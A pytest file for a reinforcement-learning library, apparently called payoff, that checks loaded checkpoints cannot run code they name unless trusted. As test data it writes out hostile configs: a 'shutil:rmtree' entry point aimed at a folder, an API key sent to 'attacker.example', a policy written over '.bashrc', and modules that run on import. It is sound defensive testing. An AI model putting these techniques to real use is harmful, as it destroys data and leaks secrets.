"""Code named by a loaded file runs only when trusted: a run or saved file that payoff
wrote here for this user, or --trust-code / trust_code=True. A hostile checkpoint whose
config names `shutil:rmtree` as its env must not delete anything on `payoff eval`."""

from __future__ import annotations

import shutil
import textwrap

import pytest

from payoff import PPO
from payoff.cli import main
from payoff.core.errors import ConfigError
from payoff.core.imports import names_from
from payoff.rewards.base import RewardSpec, resolve_reward
from payoff.track.checkpoint import load_state, save_state

REFUSED = "names code to import and run"
LINE_ENV = textwrap.dedent(
    '''
    import gymnasium as gym
    import numpy as np


    class Line(gym.Env):
        """Walk right along a line of 4 cells; 10 steps at most."""

        observation_space = gym.spaces.Box(0.0, 1.0, (1,), np.float32)
        action_space = gym.spaces.Discrete(2)

        def reset(self, seed=None, options=None):
            super().reset(seed=seed)
            self.x, self.t = 0, 0
            return np.zeros(1, np.float32), {}

        def step(self, action):
            self.x, self.t = max(0, self.x + (1 if action else -1)), self.t + 1
            done = self.x == 3
            return np.array([self.x / 3], np.float32), float(done), done, self.t >= 10, {}
    '''
)
TINY = [
    "total_steps=256",
    "num_envs=2",
    "num_steps=64",
    "minibatch_size=64",
    "eval_every=0",
    "final_eval_episodes=1",
]


@pytest.fixture
def own_env(tmp_path, monkeypatch):
    """A working folder holding the user's env module (imported by entry point)."""
    (tmp_path / "line_envs.py").write_text(LINE_ENV)
    monkeypatch.chdir(tmp_path)
    return "line_envs:Line"


def _only_run(folder):
    (run,) = [p for p in folder.iterdir() if p.is_dir()]
    return run


def test_a_hostile_checkpoint_cannot_run_what_it_names(tmp_path, capsys):
    out = tmp_path / "runs"
    assert main(["train", "cartpole-ppo", *TINY, "--out", str(out), "--no-media"]) == 0
    downloaded = tmp_path / "downloaded"
    shutil.copytree(_only_run(out), downloaded)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep").write_text("precious")
    checkpoint = downloaded / "checkpoints" / "latest.safetensors"
    payload = load_state(checkpoint)
    env = {"id": "x", "entry_point": "shutil:rmtree", "kwargs": {"path": str(victim)}}
    payload["state"]["config"]["env"] = env
    save_state(checkpoint, payload)
    (downloaded / "summary.json").unlink()  # as if stopped early: resume loads the checkpoint
    for command in (["eval", str(downloaded)], ["train", "--resume", str(downloaded)]):
        assert main(command) == 2
        said = capsys.readouterr().err
        assert REFUSED in said and "env.entry_point 'shutil:rmtree'" in said
        assert "--trust-code" in said
        assert (victim / "keep").read_text() == "precious"
    with pytest.raises(ConfigError, match=REFUSED):
        PPO.load(downloaded)


def test_runs_written_here_are_trusted_and_copies_need_the_flag(own_env, tmp_path, capsys):
    out = tmp_path / "runs"
    argv = ["train", "cartpole-ppo", f"env.entry_point={own_env}", *TINY]
    assert main([*argv, "--out", str(out), "--no-media"]) == 0
    run = _only_run(out)
    assert main(["eval", str(run), "--episodes", "2"]) == 0  # payoff wrote it here
    moved = tmp_path / "from-a-colleague"
    shutil.copytree(run, moved)
    capsys.readouterr()
    assert main(["eval", str(moved), "--episodes", "2"]) == 2
    assert f"env.entry_point '{own_env}'" in capsys.readouterr().err
    assert main(["eval", str(moved), "--episodes", "2", "--trust-code"]) == 0


def test_saved_files_load_here_and_copies_need_trust_or_an_env(own_env, tmp_path):
    agent = PPO(env={"entry_point": own_env}, total_steps=256, num_envs=2, num_steps=64)
    agent.config.eval_every = 0
    saved = agent.save(tmp_path / "line.safetensors")
    action, _ = PPO.load(saved).predict([0.0])
    assert action in (0, 1)  # written here
    copy = tmp_path / "line-copy.safetensors"
    shutil.copy(saved, copy)
    with pytest.raises(ConfigError, match=REFUSED):
        PPO.load(copy)
    assert PPO.load(copy, trust_code=True).act([0.0]) in (0, 1)
    assert PPO.load(copy, env={"entry_point": own_env}).act([0.0]) in (0, 1)


def test_trust_follows_the_config_payoff_wrote_not_the_path(tmp_path, capsys):
    """A hostile checkpoint copied over one of your own runs' (or a downloaded run unpacked
    where one of yours used to be) sits at a path payoff wrote, with another config."""
    out = tmp_path / "runs"
    assert main(["train", "cartpole-ppo", *TINY, "--out", str(out), "--no-media"]) == 0
    run = _only_run(out)
    checkpoint = run / "checkpoints" / "latest.safetensors"
    victim = tmp_path / "victim"
    victim.mkdir()
    payload = load_state(checkpoint)
    payload["state"]["config"]["env"] = {
        "id": "x",
        "entry_point": "shutil:rmtree",
        "kwargs": {"path": str(victim)},
    }
    save_state(checkpoint, payload)
    capsys.readouterr()
    assert main(["eval", str(run), "--episodes", "1"]) == 2
    assert "env.entry_point 'shutil:rmtree'" in capsys.readouterr().err
    assert victim.is_dir()

    agent = PPO("CartPole-v1", total_steps=64, num_envs=1, num_steps=64)
    saved = agent.save(tmp_path / "mine.safetensors")
    payload = load_state(saved)
    payload["state"]["config"]["env"]["entry_point"] = "shutil:rmtree"
    save_state(saved, payload)
    with pytest.raises(ConfigError, match=REFUSED):
        PPO.load(saved)


def test_a_reward_module_named_by_a_loaded_file_is_refused(tmp_path):
    (tmp_path / "evil.py").write_text(
        "raise SystemExit('ran')\n\ndef fn(prompts, completions, **kw): ...\n"
    )
    spec = RewardSpec(name=f"{tmp_path / 'evil.py'}:fn")
    with names_from("checkpoint 'x'"), pytest.raises(ConfigError, match=REFUSED):
        resolve_reward(spec)


def test_a_loaded_config_cannot_turn_on_remote_code(tmp_path):
    from payoff.models.lm import ModelConfig, load_lm

    config = ModelConfig(path=str(tmp_path / "model"), trust_remote_code=True)
    with names_from("checkpoint 'x'"), pytest.raises(ConfigError, match="trust_remote_code"):
        load_lm(config, seed=0)


def test_a_loaded_config_cannot_switch_the_sandbox_off():
    from payoff.sandbox import check_available

    with names_from("checkpoint 'x'"), pytest.raises(ConfigError, match="sandbox 'unsafe-process'"):
        check_available("unsafe-process")
    assert check_available("unsafe-process") == "unsafe-process"  # the user's own choice


def test_a_loaded_config_cannot_send_a_key_to_its_own_endpoint(monkeypatch):
    from payoff.rewards.chat_clients import OpenAIChatClient

    monkeypatch.setenv("SOME_SECRET", "hunter2")
    with names_from("checkpoint 'x'"), pytest.raises(ConfigError, match="judge endpoint"):
        OpenAIChatClient("https://attacker.example/v1", "m", api_key_env="SOME_SECRET")
    assert OpenAIChatClient("http://127.0.0.1:9/v1", "m").url.endswith("/chat/completions")


def test_a_loaded_imitation_run_cannot_pick_where_its_policy_is_written(tmp_path):
    from payoff import BC

    agent = BC(env="CartPole-v1", expert="cartpole", label_budget=50, epochs=1, eval_every=0)
    agent.config.final_eval_episodes = 1
    agent.config.export_policy = str(tmp_path / "home" / ".bashrc")
    copy = tmp_path / "bc-copy.safetensors"
    shutil.copy(agent.learn().save(tmp_path / "bc.safetensors"), copy)
    with pytest.raises(ConfigError, match=r"names a file to write \(export_policy"):
        BC.load(copy)
    assert BC.load(copy, trust_code=True).config.export_policy.endswith(".bashrc")


def test_a_loaded_run_cannot_choose_the_ray_cluster_its_weights_go_to():
    # A downloaded run resumed with backend ray would connect to the address it names (the
    # Ray client unpickles what that server sends back)
    from payoff import PPO

    payload = PPO("CartPole-v1", num_envs=2)._payload_state()
    payload["config"].update(backend="ray", ray={"address": "ray://203.0.113.9:10001"})
    with pytest.raises(ConfigError, match=r"names a Ray cluster to connect to \(ray.address"):
        PPO._from_payload(payload, source="downloaded.safetensors")


def test_a_loaded_config_cannot_import_a_module_as_a_pettingzoo_env():
    """payoff/PettingZoo-v0's env_id may name a module, and importing one runs it: `this`
    prints, `venv.__main__` made a venv out of the run folder on `payoff eval`."""
    pytest.importorskip("pettingzoo")
    from payoff.envs.pettingzoo import make_pettingzoo

    with names_from("checkpoint 'x'"), pytest.raises(ConfigError, match="env.kwargs.env_id"):
        make_pettingzoo("this")
    with names_from("checkpoint 'x'"):  # PettingZoo's own packages load as before
        env = make_pettingzoo("mpe2.simple_spread_v3", max_cycles=5)
    env.close()


def test_a_loaded_file_naming_its_own_game_imports_nothing(tmp_path, monkeypatch):
    """AlphaZero's config check made the game, importing 'module:Class' before the load's
    trust rule applied: the module's code had run by the time the refusal came."""
    from payoff.algos.alphazero import AlphaZero

    marker = tmp_path / "imported"
    (tmp_path / "trustgame.py").write_text(
        "from pathlib import Path\n"
        f"Path({str(marker)!r}).write_text('ran')\n"
        "from payoff.envs.games.tictactoe import TicTacToe as Game\n"
    )
    payload = AlphaZero(game="tictactoe", baselines=["random"])._payload_state()
    payload["config"]["game"] = "trustgame:Game"
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ConfigError, match=r"names code to import and run \(game 'trustgame:Game'"):
        AlphaZero._from_payload(payload, source="downloaded.safetensors")
    assert not marker.exists()
